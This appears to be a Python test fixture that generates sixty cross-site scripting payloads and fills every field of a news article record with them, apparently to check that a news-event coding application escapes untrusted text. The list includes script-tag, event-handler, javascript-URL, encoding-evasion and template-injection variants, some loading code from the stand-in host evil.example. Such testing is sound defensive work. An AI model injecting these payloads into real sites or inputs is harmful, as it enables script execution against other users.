"""Sixty ways to smuggle a script into text, and articles that are made of them.

In: a number. Out: payloads and readings. Every script sets `window.hit` and opens a dialog, so that a browser can tell.
"""

from __future__ import annotations

from dataclasses import replace

from store.readings import claim

from detente.model import Actor, Article, Attribution, Claim, Furniture, LeftOut, Place, Reading, Span

RUN = "window.hit=1;alert(1)"
_TAGS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src="x" onerror="{}">', "<img/src/onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><a href='javascript:{}'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>", "<body onload={}>", "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>", "<form action='javascript:{}'><button>x</button></form>", "<button formaction='javascript:{}'>x",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<video><source onerror={}>",
    "<audio src=x onerror={}>", "<marquee onstart={}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//evil.example/'>", "<link rel=stylesheet href='//evil.example/x.css'>", "<style>@import '//evil.example/x.css';</style>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<p style='background:url(//evil.example/x)'>", "<div onmouseover={}>x</div>", "<isindex onclick={}>", "<x onclick={}>x",
]  # fmt: skip
_BREAKS = [
    '" onmouseover="{}', "' onmouseover='{}", '" autofocus onfocus="{}', "'><script>{}</script>", '"><script>{}</script>',
    "`><script>{}</script>", '"/><img src=x onerror="{}"/>', "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>",
    "{{{{ 7*7 }}}}<script>{}</script>", "{{% raw %}}<script>{}</script>", "${{{}}}", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "\u003cscript\u003e{}\u003c/script\u003e", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<scr\u200bipt>{}</scr\u200bipt>", "%3Cscript%3E{}%3C/script%3E", "<<script>{}//<</script>",
]  # fmt: skip
PAYLOADS = [one.format(RUN) for one in (*_TAGS, *_BREAKS)]


def hostile(number: int) -> Reading:
    """An article all of whose fields are the payload of that number."""
    bad = PAYLOADS[number]
    text = f"{bad} attacked {bad}. Cut {bad}"
    whole, cut = Span(0, len(bad) * 2 + 11), Span(len(bad) * 2 + 11, len(text))
    actor = Actor(0, len(bad), bad, bad, (bad,), bad, bad, bad)
    act = Span(len(bad) + 1, len(bad) + 9)
    plain: Claim = claim(f"bad:{number}", 0, whole, act, event="ASSAULT", quad_code=4)
    bad_claim = replace(
        plain,
        mode=(bad,),
        context=(bad,),
        cameo=bad,
        actor=(actor,),
        recipient=(actor,),
        attribution=(Attribution("reported", actor), Attribution("outlet", outlet=bad)),
        place=Place(0, len(bad), bad, bad, 1),
        trace=(bad,),
    )
    article = Article(
        f"bad:{number}{bad}",
        text,
        (whole,),
        furniture=(Furniture(cut.begin, cut.end, bad),),
        title=bad,
        outlet=bad,
        url=bad,
        published="2020-01-01",
        origin=bad,
        notes=(bad,),
    )
    return Reading(article, (bad_claim,), (), (), (), (LeftOut(0, len(bad), bad),), bad)
